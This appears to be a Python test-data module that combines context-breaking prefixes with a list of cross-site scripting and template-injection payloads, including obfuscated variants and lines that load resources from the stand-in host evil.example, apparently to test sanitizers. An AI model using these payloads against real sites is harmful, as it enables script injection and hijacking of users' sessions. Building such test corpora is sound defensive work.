"""Texts that try to be more than text: tags, attributes, addresses and templates, each after what may end its place."""

OPENINGS = ("", '"', "'", ">", '">', "'/>", "</title>", "</textarea>", "</option></select>", "-->", "</script>", "\\")
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "{{ 7*7 }}{% raw %}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import'//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<!--<img src=x onerror=alert(1)>",
    "<x hx-get=/account hx-trigger=load hx-target=body>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "${alert(1)}`-alert(1)-`",
    "<link rel=stylesheet href=//evil.example>",
    "\ufeff<body onpageshow=alert(1)>",
)
STRINGS = tuple(opening + payload for opening in OPENINGS for payload in PAYLOADS)
